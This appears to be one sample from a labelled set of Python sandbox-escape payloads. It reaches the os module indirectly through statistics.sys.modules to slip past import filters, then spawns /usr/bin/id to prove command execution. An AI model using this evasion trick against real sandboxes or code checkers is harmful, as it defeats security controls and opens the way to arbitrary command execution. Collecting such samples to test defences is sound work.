# family: B   goal: id
import statistics
statistics.sys.modules["os"].posix_spawn("/usr/bin/id", ["id"], {})
import time
time.sleep(0.3)
